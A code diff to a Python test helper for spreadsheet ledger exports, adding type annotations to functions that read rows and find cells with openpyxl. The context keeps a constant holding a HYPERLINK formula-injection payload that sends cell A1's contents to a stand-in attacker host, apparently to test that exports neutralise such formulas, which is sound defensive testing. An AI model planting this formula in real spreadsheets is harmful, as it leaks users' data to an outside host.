@@ -3,13 +3,15 @@
 from __future__ import annotations
 
 from io import BytesIO
+from typing import Any
 
 from openpyxl import load_workbook
+from openpyxl.cell.cell import Cell
 
 from .writer import SERIAL
 
 
-def list_rows(content: bytes, sheet: str | None = None) -> list[tuple]:
+def list_rows(content: bytes, sheet: str | None = None) -> list[tuple[Any, ...]]:
     """The header row and the data rows of a ledger, without its title row and its 序号 column.
 
     Asserts the ledger layout on the way: a one-cell title row, the header with 序号 first, numbered rows.
@@ -28,7 +30,7 @@ def list_rows(content: bytes, sheet: str | None = None) -> list[tuple]:
 INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'
 
 
-def cells_holding(content: bytes, value: str) -> list:
+def cells_holding(content: bytes, value: str) -> list[Cell]:
     """Every cell of every sheet whose value is exactly ``value`` (a formula cell's value is its formula text)."""
     wb = load_workbook(BytesIO(content))
     found = [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row if cell.value == value]
